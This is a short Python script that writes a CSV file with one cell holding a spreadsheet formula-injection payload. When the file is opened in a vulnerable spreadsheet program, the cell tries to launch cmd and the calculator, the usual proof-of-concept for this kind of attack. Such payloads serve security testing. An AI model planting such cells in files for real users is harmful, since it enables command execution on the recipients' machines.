import csv
with open("x.csv", "w", newline="") as f:
    csv.writer(f).writerow(["+cmd|' /C calc'!A0"])
